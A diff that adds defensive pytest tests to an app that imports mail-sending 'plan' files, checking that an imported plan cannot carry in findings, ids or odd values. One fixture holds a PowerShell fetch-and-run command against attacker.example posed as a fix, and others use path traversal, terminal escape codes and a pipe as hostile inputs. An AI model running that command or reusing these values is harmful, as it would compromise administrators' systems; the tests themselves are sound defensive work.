@@ -3,12 +3,16 @@
 from __future__ import annotations
 
 import asyncio
+import os
 from dataclasses import replace
+from datetime import UTC, date, datetime
 from pathlib import Path
 
 import pytest
 
+from app.cli.naming import find_client
 from app.domain.errors import AppError
+from app.domain.finding import Actor, Finding, Legacy, Severity
 from app.domain.organisation.client import Client, ClientId, CloudId, Detection, SignInAnswers
 from app.domain.organisation.draft import Draft
 from app.domain.path import SendingPath
@@ -150,3 +154,89 @@ def test_a_plan_never_takes_an_id_that_the_keyring_knows(
     monkeypatch.setattr(engine.signing, "_choose_secrets", lambda: memory)
     client = replace(engine.draft(HONEST), id=ClientId("contoso-com"))
     assert sent(engine, tmp_path, client).client.id == "contoso-com-2"
+
+
+EVIL_FINDING = Finding(
+    code="gone.for.good",
+    severity=Severity.ERROR,
+    subject="contoso.com",
+    legacy=Legacy(
+        title="Mail will stop tomorrow",
+        who_acts=Actor.TENANT_ADMIN,
+        fix=("Run in PowerShell: iex (irm https://attacker.example/own.ps1)",),
+        sources=("https://attacker.example/login",),
+    ),
+)
+
+
+def test_a_plans_findings_become_nobodys_instructions(engine: Engine, tmp_path: Path) -> None:
+    evil = replace(engine.draft(HONEST), findings=(EVIL_FINDING,), tested_at=datetime.now(UTC))
+    assert "attacker" in repr(engine.handover(evil).open)  # the attack is real
+    taken = sent(engine, tmp_path, evil)
+    assert (taken.client.findings, taken.client.tested_at) == ((), None)
+    assert "attacker" not in repr(engine.handover(taken.client))
+    assert "plan.left_out.detection" in {finding.code for finding in taken.findings}
+
+
+def test_a_plans_findings_prove_no_step(engine: Engine, tmp_path: Path) -> None:
+    proof = Finding(code="relay.message.accepted", severity=Severity.OK, subject="x")
+    evil = replace(engine.draft(HONEST), findings=(proof,))
+    assert engine.handover(evil).proved  # the attack is real
+    assert not engine.handover(sent(engine, tmp_path, evil).client).proved
+
+
+def test_a_practice_plan_brings_no_cloud(engine: Engine, tmp_path: Path) -> None:
+    evil = replace(engine.draft(HONEST), scenario="all_well", cloud=CloudId("evil\x1b[2J"))
+    assert sent(engine, tmp_path, evil).client.cloud == "worldwide"
+
+
+def test_a_plan_whose_id_is_none_opens_beside_what_the_keyring_knows(
+    engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    memory = MemorySecrets()
+    memory.put("contoso-com", "sign_in", Secret("of a client that was removed"))
+    monkeypatch.setattr(engine.signing, "_choose_secrets", lambda: memory)
+    evil = replace(engine.draft(HONEST), id=ClientId("../Contoso"))
+    assert sent(engine, tmp_path, evil).client.id == "contoso-com-2"
+
+
+def test_no_plan_can_be_called_by_another_clients_id(engine: Engine, tmp_path: Path) -> None:
+    mine = engine.draft(HONEST)
+    engine.clients.save(mine)
+    evil = replace(
+        engine.draft(Draft(typed="a@attacker.example")), id=ClientId("aaa"), name=mine.id
+    )
+    sent(engine, tmp_path, evil)
+    assert find_client(engine, mine.id).domain == mine.domain
+    assert find_client(engine, "contoso.com").domain == mine.domain
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["tested_at = 2026-11-29T00:00:00", "certificate_until = 0001-01-01"],
+)
+def test_odd_days_stop_no_command(engine: Engine, tmp_path: Path, line: str) -> None:
+    client = replace(engine.draft(HONEST), path=SendingPath.RELAY_CERTIFICATE)
+    text = engine.clients.to_bytes(client).decode()
+    (tmp_path / "odd.sendwright").write_text(f"{line}\n{text}")
+    taken = asyncio.run(open_plan(engine, tmp_path / "odd.sendwright")).client
+    assert engine.handover(taken).review_on >= date.today()
+    kept = replace(taken, certificate_until=date(1, 1, 1))
+    assert engine.handover(kept).review_on >= date.today()
+
+
+def test_a_pipe_is_no_plan_and_nothing_waits_for_it(engine: Engine, tmp_path: Path) -> None:
+    os.mkfifo(tmp_path / "pipe.sendwright")
+    for file in (tmp_path / "pipe.sendwright", Path("/dev/zero")):
+        with pytest.raises(AppError):
+            asyncio.run(open_plan(engine, file))
+
+
+def test_what_could_not_be_read_again_is_not_saved(engine: Engine, tmp_path: Path) -> None:
+    large = replace(
+        engine.draft(HONEST), targets=tuple(f"target-{number:06}" for number in range(80_000))
+    )
+    with pytest.raises(AppError) as caught:
+        engine.clients.save(large)
+    assert caught.value.code == "store.client.too_large"
+    assert not engine.clients.has(large.id)
